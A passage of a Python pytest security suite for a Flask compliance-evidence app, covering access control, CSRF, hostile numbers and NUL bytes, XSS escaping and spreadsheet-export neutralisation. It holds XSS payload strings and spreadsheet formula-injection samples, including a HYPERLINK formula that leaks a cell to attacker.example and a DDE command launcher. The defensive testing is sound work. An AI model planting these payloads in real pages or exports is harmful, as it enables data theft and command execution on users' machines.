"""The security suite: what an attacker (or a careless input) tries, and that it is stopped.

Complements, without repeating:
- tests/test_access.py: the role × route matrix (every route, every role, expected status). Here: object-level
  checks (a contributor on another contributor's controls, evidence and actions; four eyes by direct POST;
  objects reached through the wrong parent) and hostile numbers in addresses.
- tests/test_csrf.py (a few forms): here every form of every page, as every role, on seeded data.
- tests/test_dossier.py::test_nothing_is_fetched_and_user_text_stays_text covers XSS payloads in the PDF and the
  fetcher; here the pages and the CSV/XLSX matrix, and link evidence URLs never fetched by the server.
- tests/test_auth.py (throttling, session renewal): here fixation with a planted cookie, forged and replayed
  cookies, every session ending at logout, throttling that case, spaces or X-Forwarded-For do not bypass.
- tests/test_evidence.py (uploaded HTML): here SVG, XML, polyglots and header injection through file names.
- tests/test_importer.py::test_file_rules (check_file): here the whole import refusing traversal, end to end.

Every HTTP response of this module goes through `SecurityHeadersClient`, which checks the security headers.
The fuzzers (hypothesis) feed the catalogue loader, the library importer and the manifest parser.
"""
from __future__ import annotations

import csv
import http.server
import io
import re
import subprocess
import sys
import threading
import time
from datetime import date
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urljoin, urlsplit

import pytest
import yaml
from flask.testing import FlaskClient
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, text
from sqlmodel import Session, SQLModel, select

from evidence import catalogue, importer
from evidence.core.errors import EvidenceError
from evidence.data import database as db
from evidence.data import storage
from evidence.data.models import ROLES, Control, Evidence, EvidenceVersion, Requirement, Section, User
from evidence.dossier.generate import queue as queue_dossier
from evidence.services import api_tokens, controls, findings, perimeters, waivers
from evidence.services import evidence as evidence_items
from evidence.services import users as auth
from tests.english import refused

from .conftest import PASSWORD, csrf_token, login

FIXTURES = Path(__file__).parent / "fixtures"
TINY = FIXTURES / "tiny-catalogue.yaml"
DAY = date(2026, 6, 15)
HUGE = "9" * 25  # beyond any integer column
CSRF_REFUSED = "n'est pas authentique"
# For attacks the database plays no part in (routing, storage, exports): SQLite only, to keep the suite short.
SQLITE_ONLY = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)


# --- every response: security headers ------------------------------------------------------------------------


def check_security_headers(response) -> None:
    path = response.request.path if response.request else "?"
    headers = response.headers
    where = (response.request.method if response.request else "", path, response.status_code)
    csp = headers.get("Content-Security-Policy", "")
    assert "default-src 'self'" in csp or "default-src 'none'" in csp, (where, csp)
    assert "unsafe-" not in csp and "http" not in csp and "*" not in csp, (where, csp)
    assert "frame-ancestors 'none'" in csp or "sandbox" in csp, (where, csp)
    assert headers.get("X-Content-Type-Options") == "nosniff", where
    assert headers.get("X-Frame-Options") == "DENY", where
    assert headers.get("Referrer-Policy") == "same-origin", where
    assert headers.get("Cross-Origin-Opener-Policy") == "same-origin", where
    assert headers.get("Cross-Origin-Resource-Policy") == "same-origin", where
    assert "camera=()" in headers.get("Permissions-Policy", ""), where
    if not path.startswith("/static/"):
        assert headers.get("Cache-Control") == "no-store", (where, headers.get("Cache-Control"))
    if response.mimetype == "text/html":
        assert response.mimetype_params.get("charset", "").lower() == "utf-8", where
    for cookie in headers.getlist("Set-Cookie"):
        if "Max-Age=0" in cookie:
            continue  # a cookie being deleted (Flask-Login clears its remember cookie so): carries nothing
        assert "HttpOnly" in cookie and "SameSite=Lax" in cookie, (where, cookie)
    if response.request and response.request.scheme == "https":
        assert headers.get("Strict-Transport-Security", "").startswith("max-age="), where


class SecurityHeadersClient(FlaskClient):
    """A test client that checks the security headers of every response it receives."""

    responses = 0

    def open(self, *args, **kwargs):
        response = super().open(*args, **kwargs)
        check_security_headers(response)
        SecurityHeadersClient.responses += 1
        return response


# --- the seeded world -----------------------------------------------------------------------------------------


@pytest.fixture
def world(app, users):
    """Two perimeters on the four-item referential; two contributors, two managers, each owning controls,
    evidence (a file with two versions, a link in review) and actions; a finding; a queued dossier."""
    app.test_client_class = SecurityHeadersClient
    app.config["TODAY"] = DAY
    ids = {}
    with app.app_context(), db.session_scope(app) as session:
        catalogue.load_catalogues(session, [TINY], "cli:test")
        get = lambda role: session.get(User, users[role].id)  # noqa: E731
        manager, contributor = get("manager"), get("contributor")
        contributor2 = auth.create_user(session, None, "contributor2@example.org", "Contributor Two", "contributor",
                                        PASSWORD)
        manager2 = auth.create_user(session, None, "manager2@example.org", "Manager Two", "manager", PASSWORD)
        perimeter = perimeters.create_perimeter(session, manager, perimeters.PerimeterData(
            code="iaas-t", name="Socle test", service_types=("IaaS",), framework_key="tiny-1.0"))
        other = perimeters.create_perimeter(session, manager, perimeters.PerimeterData(
            code="paas-t", name="Plateforme test", service_types=("PaaS",), framework_key="tiny-1.0"))
        requirement = session.exec(select(Requirement).where(Requirement.ref == "12.4.a")).one()
        own = controls.create_control(session, contributor, controls.ControlData(
            ref="CTL-C1-01", title="Control of contributor one", status="implemented", perimeter_ids=[perimeter.id]))
        theirs = controls.create_control(session, contributor2, controls.ControlData(
            ref="CTL-C2-01", title="Control of contributor two", status="implemented", perimeter_ids=[perimeter.id]))
        controls.create_control(session, manager, controls.ControlData(
            ref="CTL-MGR-01", title="Control of the manager", owner_id=manager.id, perimeter_ids=[perimeter.id]))
        controls.map_requirement(session, contributor, own, requirement, "statement one")
        controls.map_requirement(session, contributor2, theirs, requirement, "statement two")
        store = storage.get_store(app)
        evidence_items.create_evidence(session, contributor, evidence_items.EvidenceData(
            title="Evidence of contributor one", kind="report", control_ids=[own.id]),
            store=store, upload=io.BytesIO(b"one"), filename="one.txt")  # EV-0001, v1
        second = evidence_items.create_evidence(session, contributor2, evidence_items.EvidenceData(
            title="Evidence of contributor two", kind="report", control_ids=[theirs.id]),
            store=store, upload=io.BytesIO(b"two"), filename="two.txt")  # EV-0002, v1 and v2
        evidence_items.add_version(session, contributor2, second, store=store, upload=io.BytesIO(b"two, v2"),
                                   filename="two-v2.txt")
        link = evidence_items.create_evidence(session, manager, evidence_items.EvidenceData(
            title="Console", kind="link", control_ids=[own.id]), url="https://intranet.example/console")  # EV-0003
        evidence_items.review(session, manager, link, "submit")  # in review: manager2 or admin may approve it
        finding = findings.create_finding(session, manager, perimeter, findings.FindingData(
            severity="minor", text="A finding", requirement_id=requirement.id))
        theirs_action = findings.save_action(session, manager, perimeter, findings.ActionData(
            title="Action of contributor two", owner_id=contributor2.id))
        own_action = findings.save_action(session, manager, perimeter, findings.ActionData(
            title="Action of contributor one", owner_id=contributor.id))
        item = queue_dossier(session, manager, perimeter, "fr", False, "Diffusion restreinte", DAY, organisation="")
        ids.update(perimeter=perimeter.id, finding=finding.id, theirs_action=theirs_action.id, own_action=own_action.id, dossier=item.id,
                   requirement=requirement.id, contributor2=contributor2.id, manager2=manager2.id, other=other.id,
                   user=users["contributor"].id)
    app.config["WORLD"] = ids
    return app


EMAILS = {role: f"{role}@example.org" for role in ROLES}


def client_for(app, role: str | None):
    """A fresh client, logged in as `role` (None: anonymous)."""
    client = app.test_client()
    if role is not None:
        email = EMAILS.get(role, role)
        response = login(client, email)
        assert response.status_code == 302, (email, response.get_data(as_text=True)[:300])
    return client


def fingerprint(app) -> dict:
    """Row counts of every table and the audit trail's head: any write shows here (the dashboard's daily
    readiness snapshot is left out: reading a dashboard records it)."""
    with app.app_context(), db.session_scope(app) as session:
        counts = {
            table.name: session.execute(select(func.count()).select_from(table)).scalar_one()
            for table in SQLModel.metadata.sorted_tables if table.name not in ("readiness_snapshot",)
        }
        counts["audit head"] = session.execute(text("SELECT seq, hash FROM audit_head")).all()
        counts["versions"] = sorted(session.exec(
            select(Evidence.ref, Evidence.status, Evidence.version, Evidence.owner_id)))
        counts["controls"] = sorted(session.exec(select(Control.ref, Control.status, Control.version, Control.owner_id)))
        counts["users"] = sorted(session.exec(select(User.email, User.role, User.active, User.session_token)))
        return counts


def sample_urls(app, rule) -> list[str]:
    """Addresses of `rule` that lead to the seeded objects (1, or a converter's first choice, for others)."""
    from flask import url_for
    from werkzeug.routing import AnyConverter, IntegerConverter

    world = app.config["WORLD"]
    endpoint = rule.endpoint
    ref = {"controls": "CTL-C1-01", "evidence": "EV-0001"}.get(endpoint.split(".")[0], "12.4.a")
    sample = {
        "code": "iaas-t", "framework": "tiny-1.0", "filename": "css/app.css", "number": 1, "action": "submit",
        "finding_id": world["finding"], "action_id": world["own_action"], "dossier_id": world["dossier"],
        "user_id": world["user"], "requirement_id": world["requirement"], "ref": ref,
    }
    for name, converter in rule._converters.items():
        if name not in sample:
            sample[name] = sorted(converter.items)[0] if isinstance(converter, AnyConverter) else (
                1 if isinstance(converter, IntegerConverter) else "x")
    formats = ["csv", "xlsx"] if "fmt" in rule.arguments else [None]
    with app.test_request_context():
        return [url_for(endpoint, **{a: (fmt if a == "fmt" else sample[a]) for a in rule.arguments})
                for fmt in formats]


def get_urls(app) -> list[str]:
    urls = []
    for rule in sorted(app.url_map.iter_rules(), key=lambda r: r.rule):
        if "GET" in rule.methods:
            urls += sample_urls(app, rule)
    return urls


# --- HTML: forms and what a page would run ----------------------------------------------------------------------


class Form:
    def __init__(self, page: str, attrs: dict):
        self.method = (attrs.get("method") or "get").lower()
        self.action = urlsplit(urljoin(page, attrs.get("action") or page)).path
        self.multipart = (attrs.get("enctype") or "").lower() == "multipart/form-data"
        self.fields: list[tuple[str, str]] = []
        self.files: list[str] = []
        self.text_fields: set[str] = set()  # where a user types free text

    def data(self, token: str | None) -> dict:
        data: dict = {}
        for name, value in self.fields:
            if name == "csrf_token":
                continue
            data.setdefault(name, []).append(value)
        for name in self.files:
            data[name] = (io.BytesIO(b"csrf probe"), "probe.txt")
        if token is not None:
            data["csrf_token"] = token
        return data


class PageParser(HTMLParser):
    """The forms of a page (with the values a browser would send) and every start tag."""

    def __init__(self, path: str):
        super().__init__(convert_charrefs=True)
        self.path, self.forms, self.tags = path, [], []
        self._form = self._textarea = self._select = None
        self._options: list = []

    def handle_starttag(self, tag, attrs):
        attrs_d = {k: (v or "") for k, v in attrs}
        self.tags.append((tag, attrs))
        if tag == "form":
            self._form = Form(self.path, attrs_d)
            self.forms.append(self._form)
        elif self._form is None:
            return
        elif tag == "input" and attrs_d.get("name"):
            kind = attrs_d.get("type", "text").lower()
            if kind == "file":
                self._form.files.append(attrs_d["name"])
            elif kind in ("checkbox", "radio"):
                if "checked" in attrs_d:
                    self._form.fields.append((attrs_d["name"], attrs_d.get("value", "on")))
            elif kind not in ("submit", "button", "reset", "image"):
                self._form.fields.append((attrs_d["name"], attrs_d.get("value", "")))
                if kind in ("text", "search", "url", "email"):
                    self._form.text_fields.add(attrs_d["name"])
        elif tag == "textarea" and attrs_d.get("name"):
            self._textarea = [attrs_d["name"], ""]
            self._form.text_fields.add(attrs_d["name"])
        elif tag == "select" and attrs_d.get("name"):
            self._select = (attrs_d["name"], "multiple" in attrs_d)
            self._options = []
        elif tag == "option" and self._select:
            self._options.append((attrs_d.get("value", ""), "selected" in attrs_d))

    def handle_data(self, data):
        if self._textarea is not None:
            self._textarea[1] += data

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "textarea" and self._textarea is not None and self._form is not None:
            self._form.fields.append(tuple(self._textarea))
            self._textarea = None
        elif tag == "select" and self._select is not None and self._form is not None:
            name, multiple = self._select
            chosen = [v for v, selected in self._options if selected]
            if not chosen and not multiple and self._options:
                chosen = [self._options[0][0]]
            self._form.fields += [(name, v) for v in chosen]
            self._select = None


def parse(path: str, html: str) -> PageParser:
    parser = PageParser(path)
    parser.feed(html)
    parser.close()
    return parser


def injected_markup(parser: PageParser) -> list:
    """Start tags that only an injection could have produced (the app's only scripts are its own files,
    `<script src="/static/js/…" defer>`: progressive enhancement, never inline)."""
    bad = []
    for tag, attrs in parser.tags:
        names = {k.lower(): (v or "") for k, v in attrs}
        if tag == "script" and set(names) == {"src", "defer"} and re.fullmatch(r"/static/js/[a-z_-]+\.js", names["src"]):
            continue
        if tag in ("script", "iframe", "object", "embed", "base"):
            bad.append((tag, attrs))
        elif any(name.startswith("on") for name in names):
            bad.append((tag, attrs))
        elif "xss" in names.get("id", "") or "xss" in names.get("class", ""):
            bad.append((tag, attrs))
        elif any(names.get(a, "").strip().lower().startswith(("javascript:", "data:text/html"))
                 for a in ("href", "src", "action")):
            bad.append((tag, attrs))
    return bad


def post_endpoint(app, path: str) -> str | None:
    from werkzeug.exceptions import HTTPException

    try:
        return app.url_map.bind("localhost").match(path, method="POST")[0]
    except HTTPException:
        return None


# === Access: object-level checks ===============================================================================


def test_contributor_cannot_change_another_contributors_objects(world):
    app, ids = world, world.config["WORLD"]
    client = client_for(app, "contributor")
    token = csrf_token(client, "/evidence/EV-0001")
    with app.app_context(), db.session_scope(app) as session:  # the right versions: only the role may stop the request
        v = {ref: str(version) for ref, version in session.exec(select(Evidence.ref, Evidence.version))}
        v |= {ref: str(version) for ref, version in session.exec(select(Control.ref, Control.version))}
    before = fingerprint(app)
    blobs = sorted(str(p) for p in Path(app.instance_path, "blobs").rglob("*") if p.is_file())
    evidence_fields = {"title": "Hijacked", "kind": "report", "classification": "internal", "version": v["EV-0002"],
                       "owner": str(ids["user"])}
    control_fields = {"ref": "CTL-C2-01", "title": "Hijacked", "category": "technical", "status": "retired",
                      "review_cycle_days": "365", "version": v["CTL-C2-01"]}
    refused = [
        ("get", "/evidence/EV-0002/edit", None),
        ("post", "/evidence/EV-0002/edit", evidence_fields),
        ("post", "/evidence/EV-0002/versions", {"file": (io.BytesIO(b"planted"), "planted.txt")}),
        ("post", "/evidence/EV-0002/versions", {"url": "https://attacker.example/"}),
        ("post", "/evidence/EV-0002/review/submit", {"version": v["EV-0002"]}),
        ("post", "/evidence/EV-0003/review/approve", {"version": v["EV-0003"]}),  # a contributor never reviews
        ("post", "/evidence/EV-0003/review/reject", {"version": v["EV-0003"], "comment": "no"}),
        ("get", "/controls/CTL-C2-01/edit", None),
        ("post", "/controls/CTL-C2-01/edit", control_fields),
        ("post", "/controls/CTL-C2-01/retire", {"version": v["CTL-C2-01"]}),
        ("post", "/controls/CTL-C2-01/map", {"requirement": "5.1.a"}),
        ("post", "/controls/map", {"control": "CTL-C2-01", "requirement": "5.1.a",
                                   "next": "/requirements/tiny-1.0/5.1.a"}),  # from an item's page
        ("post", f"/controls/CTL-C2-01/unmap/{ids['requirement']}", {}),
        ("post", "/controls/CTL-MGR-01/retire", {"version": v["CTL-MGR-01"]}),
        ("get", f"/perimeters/iaas-t/actions/{ids['theirs_action']}", None),
        ("post", f"/perimeters/iaas-t/actions/{ids['theirs_action']}", {"status": "done"}),
    ]
    for method, url, fields in refused:
        if method == "get":
            response = client.get(url)
        else:
            data = {"csrf_token": token, **fields}
            multipart = any(isinstance(v, tuple) for v in data.values())
            response = client.post(url, data=data, content_type="multipart/form-data" if multipart else None)
        assert response.status_code == 403, (method, url, response.status_code)
    assert fingerprint(app) == before
    assert sorted(str(p) for p in Path(app.instance_path, "blobs").rglob("*") if p.is_file()) == blobs

    # What a contributor creates or edits stays theirs, whatever owner the request names.
    response = client.post("/controls/new", data={
        "csrf_token": token, "ref": "CTL-C1-02", "title": "Mine", "category": "technical", "status": "planned",
        "review_cycle_days": "365", "owner": str(ids["contributor2"])})
    assert response.status_code == 302
    # Evidence naming another owner is refused, on the owner field, as the importer refuses it; left empty, the
    # owner is the contributor.
    new_fields = {"csrf_token": token, "title": "Mine", "kind": "link", "classification": "internal",
                  "url": "https://intranet.example/mine", "perimeters": str(ids["perimeter"])}  # linked to no control
    edit_fields = {**evidence_fields, "title": "Still mine", "version": v["EV-0001"], "csrf_token": token,
                   "perimeters": str(ids["perimeter"])}  # the form posts no control: its scope is named
    for url, fields in (("/evidence/new", new_fields), ("/evidence/EV-0001/edit", edit_fields)):
        response = client.post(url, data={**fields, "owner": str(ids["contributor2"])})
        assert response.status_code == 200, url
        assert 'id="owner-error">un contributeur est le responsable de ses preuves' in response.get_data(as_text=True), url
        assert client.post(url, data={**fields, "owner": ""}).status_code == 302, url
    with app.app_context(), db.session_scope(app) as session:
        mine = session.exec(select(Control).where(Control.ref == "CTL-C1-02")).one()
        created = session.exec(select(Evidence).where(Evidence.title == "Mine")).one()
        edited = session.exec(select(Evidence).where(Evidence.ref == "EV-0001")).one()
        assert mine.owner_id == created.owner_id == edited.owner_id == ids["user"]
        assert edited.title == "Still mine"


@SQLITE_ONLY
def test_four_eyes_hold_against_a_direct_post(world):
    """The manager who uploaded the current version cannot approve it, even by posting the form themselves."""
    app = world
    client = client_for(app, "manager")
    token = csrf_token(client, "/evidence/EV-0003")
    response = client.post("/evidence/EV-0003/review/approve", data={"csrf_token": token, "version": "2"},
                           follow_redirects=True)
    assert "quatre yeux" in response.get_data(as_text=True)
    with app.app_context(), db.session_scope(app) as session:
        assert session.exec(select(Evidence.status).where(Evidence.ref == "EV-0003")).one() == "in_review"
    other = client_for(app, "manager2@example.org")
    token = csrf_token(other, "/evidence/EV-0003")
    assert other.post("/evidence/EV-0003/review/approve", data={"csrf_token": token, "version": "2"}).status_code == 302
    with app.app_context(), db.session_scope(app) as session:
        assert session.exec(select(Evidence.status).where(Evidence.ref == "EV-0003")).one() == "approved"


@SQLITE_ONLY
def test_objects_are_reached_only_through_their_own_parent(world):
    app, ids = world, world.config["WORLD"]
    client = client_for(app, "admin")
    for url in (
        f"/perimeters/paas-t/findings/{ids['finding']}",  # a finding of iaas-t, asked for under paas-t
        f"/perimeters/paas-t/actions/{ids['own_action']}",
        "/evidence/EV-0001/versions/2/download",  # EV-0002 has a version 2; EV-0001 has not
        "/evidence/EV-0003/versions/1/download",  # a link: no file
        f"/dossiers/{ids['dossier']}/download",  # queued, not rendered
        "/dossiers/999/download",
    ):
        assert client.get(url).status_code == 404, url
    assert client.get("/evidence/EV-0002/versions/2/download").data == b"two, v2"


def test_hostile_numbers_in_addresses_never_cause_a_server_error(world):
    """Integers beyond the database's, and digits int() refuses ('²'), answer 404 or are ignored, never 500."""
    app = world
    app.config["PROPAGATE_EXCEPTIONS"] = False  # a 500 page rather than the exception
    client = client_for(app, "admin")
    token = csrf_token(client, "/")
    with app.app_context(), db.session_scope(app) as session:
        bearer = {"Authorization": "Bearer " + api_tokens.create_token(session, None, "hostile", "manager").secret}
    failures = []
    # Every route with a number in its address, with a number no column can hold (the API's with a token).
    with app.test_request_context():
        from flask import url_for
        from werkzeug.routing import IntegerConverter

        for rule in app.url_map.iter_rules():
            numbers = [n for n, c in rule._converters.items() if isinstance(c, IntegerConverter)]
            if not numbers:
                continue
            url = sample_urls(app, rule)[0]
            matched_by = "GET" if "GET" in rule.methods else "POST" if "POST" in rule.methods else min(rule.methods)
            args = app.url_map.bind("localhost").match(url, method=matched_by)[1]
            url = url_for(rule.endpoint, **{**args, **{n: int(HUGE) for n in numbers}})
            if rule.rule.startswith("/api/"):
                for method in rule.methods - {"HEAD", "OPTIONS"}:
                    status = client.open(url, method=method, json={}, headers=bearer).status_code
                    if status >= 500:
                        failures.append((method, url, status))
                continue
            for method in ("GET", "POST"):
                if method in rule.methods:
                    status = client.open(url, method=method, data={"csrf_token": token, "role": "auditor"}
                                         if method == "POST" else None).status_code
                    if status >= 500:
                        failures.append((method, url, status))
    # Numbers in query strings.
    for url in (
        f"/evidence/?page={HUGE}", f"/controls/?page={HUGE}", f"/admin/audit?page={HUGE}",
        f"/evidence/?owner={HUGE}", f"/evidence/?perimeter={HUGE}", f"/controls/?owner={HUGE}",
        f"/controls/?perimeter={HUGE}", f"/controls/new?requirement={HUGE}",  # /evidence/new?control=: below
        "/evidence/?owner=²", "/evidence/?perimeter=²", "/controls/?owner=²", "/controls/?perimeter=³",
        "/evidence/?page=-3", "/evidence/?owner=٣",
    ):
        status = client.get(url).status_code
        if status >= 500:
            failures.append(("GET", url, status))
    assert not failures, "server errors:\n" + "\n".join(f"{m} {u} -> {s}" for m, u, s in failures)


def test_a_huge_control_number_on_the_new_evidence_form_is_not_a_server_error(world):
    app = world
    app.config["PROPAGATE_EXCEPTIONS"] = False
    client = client_for(app, "admin")
    assert client.get(f"/evidence/new?control={HUGE}").status_code < 500


def test_nul_bytes_and_long_values_never_cause_a_server_error(world):
    """PostgreSQL refuses NUL in text and values longer than a column; SQLite takes both. Whatever an address, a
    query string or a form carries, the answer is a page or a 4xx, never a 500."""
    app = world
    app.config["PROPAGATE_EXCEPTIONS"] = False
    failures = []

    def record(method, url, response):
        if response.status_code >= 500:
            failures.append((method, url, response.status_code))

    anonymous = app.test_client()
    token = csrf_token(anonymous)
    long_email = "a" * 80 + "@example.org"  # a valid address longer than the audit trail's object column
    for email in (long_email, long_email, "nul\x00@example.org", "x@example.org\x00"):
        record("POST", "/login " + repr(email), anonymous.post("/login", data={
            "csrf_token": token, "email": email, "password": "wrong password"}))
    admin = client_for(app, "admin")
    record("POST", "/admin/users " + long_email, admin.post("/admin/users", data={
        "csrf_token": csrf_token(admin, "/admin/users"), "email": long_email, "name": "Long", "role": "auditor"}))
    for rule in sorted(app.url_map.iter_rules(), key=lambda r: r.rule):
        if "GET" not in rule.methods or rule.endpoint == "static":
            continue
        for url in sample_urls(app, rule):
            record("GET", url + "%00", admin.get(url + "%00"))
            record("GET", url + "?q=a%00&owner=%00&chapter=%00&actor=%00&object=%00&perimeter=%00&state=%00",
                   admin.get(url + "?q=a%00&owner=%00&chapter=%00&actor=%00&object=%00&perimeter=%00&state=%00"))
    # Every form an admin sees, posted back with its token and a NUL at the end of every value.
    for url in get_urls(app):
        response = admin.get(url)
        if response.status_code != 200 or response.mimetype != "text/html":
            continue
        for form in parse(url, response.get_data(as_text=True)).forms:
            if form.method != "post" or form.action in ("/logout",) or "/active" in form.action:
                continue
            data = {name: [v + "\x00" for v in values] for name, values in form.data(None).items()
                    if isinstance(values, list)}
            data["csrf_token"] = dict(form.fields)["csrf_token"]
            record("POST", form.action, admin.post(form.action, data=data))
    assert not failures, "server errors:\n" + "\n".join(f"{m} {u} -> {s}" for m, u, s in failures)


# === CSRF: every form, every role ================================================================================


@pytest.mark.sqlite_only  # forms and escaping, not SQL
def test_every_form_refuses_a_post_without_a_valid_token(world):
    """Crawl every page as every role (and anonymously); post each form found without its token, with an invented
    one and with another session's: 400 every time, and nothing changes. Every POST route has a form somewhere."""
    app = world
    urls = get_urls(app)
    crawled = []
    for role in (None, *ROLES, "manager2@example.org"):
        client = client_for(app, role)
        forms = {}
        for url in urls:
            response = client.get(url)
            if response.status_code != 200 or response.mimetype != "text/html":
                continue
            for form in parse(url, response.get_data(as_text=True)).forms:
                if form.method != "post":
                    continue
                assert dict(form.fields).get("csrf_token"), ("a form without a CSRF token", role, url, form.action)
                forms.setdefault(form.action, form)
        crawled.append((role, client, forms))

    foreign = csrf_token(app.test_client(), "/login")  # valid, but for another session
    anonymous, manager = client_for(app, None), client_for(app, "manager")
    before = fingerprint(app)
    reached, posts = set(), 0
    for role, client, forms in crawled:
        for action, form in forms.items():
            reached.add(post_endpoint(app, action))
            for token in (None, "forged-token", foreign):
                response = client.post(action, data=form.data(token),
                                       content_type="multipart/form-data" if form.multipart else None)
                posts += 1
                assert response.status_code == 400 and CSRF_REFUSED in response.get_data(as_text=True), \
                    (role, action, token, response.status_code)
    # Every POST route, even one no seeded page shows a form for, checks the token before anything else. The API
    # takes no cookie, so no CSRF token either: a bearer token or nothing (tests/test_access.py).
    for rule in app.url_map.iter_rules():
        if "POST" not in rule.methods or rule.endpoint in reached or rule.rule.startswith("/api/"):
            continue
        for url in sample_urls(app, rule):
            for client in (anonymous, manager):
                response = client.post(url, data={"field": "value"})
                posts += 1
                assert response.status_code == 400 and CSRF_REFUSED in response.get_data(as_text=True), \
                    (rule.endpoint, url, response.status_code)
    assert fingerprint(app) == before
    assert posts > 60 and len(reached) > 15


# === XSS ===========================================================================================================

PAYLOAD = ("XSS\"'><script>alert(1)</script><img src=x onerror=alert(2) id=xss-img>"
           "<svg onload=alert(3)><a href=javascript:alert(4) id=xss-a>{{7*7}}</a>")
SHORT = "\"'><img src=x onerror=alert(2) id=xss-s>{{7*7}}"  # for fields of 80 characters


@pytest.mark.sqlite_only  # forms and escaping, not SQL
def test_xss_payloads_in_every_text_field_stay_text_on_every_page(world):
    app, ids = world, world.config["WORLD"]
    with app.app_context(), db.session_scope(app) as session:
        manager = session.exec(select(User).where(User.email == "manager@example.org")).one()
        second = session.get(User, ids["manager2"])
        contributor2 = session.get(User, ids["contributor2"])
        store = storage.get_store(app)
        perimeter = perimeters.get_perimeter(session, "iaas-t")
        perimeters.update_perimeter(session, manager, perimeter, perimeters.PerimeterData(
            code="iaas-t", name=PAYLOAD, description=PAYLOAD, service_types=("IaaS",), framework_key="tiny-1.0",
            evaluation_centre=PAYLOAD), perimeter.version)
        # 5.1.b is a recommendation: it may be declared not applicable, with a justification.
        recommendation = session.exec(select(Requirement).where(Requirement.ref == "5.1.b")).one()
        twelve = session.get(Requirement, ids["requirement"])
        perimeters.set_applicability(session, manager, perimeter, recommendation, "not_applicable", PAYLOAD)
        perimeters.set_verdict(session, manager, perimeter, twelve, "partly_covered", PAYLOAD)
        waivers.set_waiver(session, manager, perimeter, twelve, "12.4.a#2", PAYLOAD)  # shown on the verdict page
        control = controls.get_control(session, "CTL-MGR-01")
        controls.update_control(session, manager, control, controls.ControlData(
            ref="CTL-MGR-01", title=PAYLOAD, description=PAYLOAD, owner_id=manager.id,
            perimeter_ids=[perimeter.id]), control.version)
        controls.map_requirement(session, manager, control, twelve, PAYLOAD)
        evidence = evidence_items.get_evidence(session, "EV-0001")
        evidence_items.update_evidence(session, manager, evidence, evidence_items.EvidenceData(
            title=PAYLOAD, kind="report", description=PAYLOAD, control_ids=[control.id]), evidence.version)
        evidence_items.add_version(session, manager, evidence, store=store, upload=io.BytesIO(b"x"),
                                   filename=PAYLOAD.replace("/", "") + ".txt", note=PAYLOAD)
        evidence_items.review(session, manager, evidence, "submit")
        evidence_items.review(session, second, evidence, "reject", comment=PAYLOAD)
        link = evidence_items.get_evidence(session, "EV-0003")
        evidence_items.add_version(session, manager, link, url="https://intranet.example/" + PAYLOAD, note=PAYLOAD)
        findings.create_finding(session, manager, perimeter, findings.FindingData(
            severity="major", text=PAYLOAD, response=PAYLOAD, requirement_id=twelve.id))
        findings.save_action(session, manager, perimeter, findings.ActionData(
            title=PAYLOAD, description=PAYLOAD, owner_id=contributor2.id))
        queue_dossier(session, manager, perimeter, "fr", False, SHORT, DAY, organisation="")
        contributor2.name = PAYLOAD[:200]  # shown as the owner of controls, evidence and actions
        session.add(contributor2)
        # Library text: titles, summaries and official wording come from files an admin imports.
        section = session.exec(select(Section).where(Section.ref == "12.4")).one()
        section.title = PAYLOAD
        twelve.title, twelve.summary, twelve.official_text = PAYLOAD, PAYLOAD, PAYLOAD
        session.add_all([section, twelve])
        session.commit()
    admin = client_for(app, "admin")
    response = admin.post("/admin/users", data={"csrf_token": csrf_token(admin, "/admin/users"),
                                                "email": "xss@example.org", "name": PAYLOAD, "role": "auditor"})
    assert response.status_code == 200 and "/password/set/" in response.get_data(as_text=True)  # the link, once
    # And through the forms themselves: every free-text field of every form an admin sees gets the payload
    # (fields too short for it get the short one; validation may refuse some, never with a 500).
    posted = set()
    for url in get_urls(app):
        response = admin.get(url)
        if response.status_code != 200 or response.mimetype != "text/html":
            continue
        for form in parse(url, response.get_data(as_text=True)).forms:
            if form.method != "post" or form.action in posted or not form.text_fields or form.action == "/login":
                continue
            posted.add(form.action)
            data = form.data(dict(form.fields)["csrf_token"])
            for name in form.text_fields:
                data[name] = "https://intranet.example/?" + SHORT if name == "url" else PAYLOAD
            status = admin.post(form.action, data=data,
                                content_type="multipart/form-data" if form.multipart else None).status_code
            assert status < 500, (form.action, status)
    assert len(posted) > 10

    # Reflected: search boxes, filters, the login page's `next`, a failed login's e-mail.
    q = PAYLOAD.replace("&", "%26").replace("#", "%23")
    reflected = [f"/requirements/?q={q}", f"/requirements/?chapter={q}", f"/controls/?q={q}", f"/evidence/?q={q}",
                 f"/admin/audit?actor={q}&object={q}", f"/perimeters/iaas-t/gaps?chapter={q}",
                 f"/dossiers/?perimeter={q}", f"/evidence/new?requirement={q}", f"/perimeters/iaas-t?state={q}"]
    pages, escaped = 0, 0
    anonymous = app.test_client()
    for page in (anonymous.get(f"/login?next={q}"),
                 anonymous.post("/login", data={"csrf_token": csrf_token(anonymous), "email": SHORT, "password": "x"})):
        assert injected_markup(parse("/login", page.get_data(as_text=True))) == []
    for role in ("admin", "manager", "auditor", "contributor2@example.org"):
        client = admin if role == "admin" else client_for(app, role)
        for url in get_urls(app) + reflected:
            response = client.get(url)
            if response.mimetype != "text/html":
                continue
            html = response.get_data(as_text=True)
            assert injected_markup(parse(url, html)) == [], (role, url)
            pages += 1
            escaped += "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert pages > 80 and escaped > 20  # the payloads were shown (as text) on many pages
    assert "{{7*7}}" in admin.get("/evidence/EV-0001").get_data(as_text=True)  # text, never a template


@SQLITE_ONLY
def test_matrix_exports_neutralise_formulas(world):
    """CSV and XLSX cells that a spreadsheet would run (=, +, -, @, tab, CR first) are quoted as text."""
    from openpyxl import load_workbook

    app, ids = world, world.config["WORLD"]
    formulas = ['=HYPERLINK("http://attacker.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
                "\t=1+1", "\r=2+2"]
    with app.app_context(), db.session_scope(app) as session:
        manager = session.exec(select(User).where(User.email == "manager@example.org")).one()
        perimeter = perimeters.get_perimeter(session, "iaas-t")
        refs = {r.ref: r for r in session.exec(select(Requirement))}  # only the four-item referential is loaded
        # Words a manager types: the justification of a recommendation declared not applicable (5.1.b), of a
        # verdict and of a waiver (12.4.a).
        perimeters.set_applicability(session, manager, perimeter, refs["5.1.b"], "not_applicable", formulas[0])
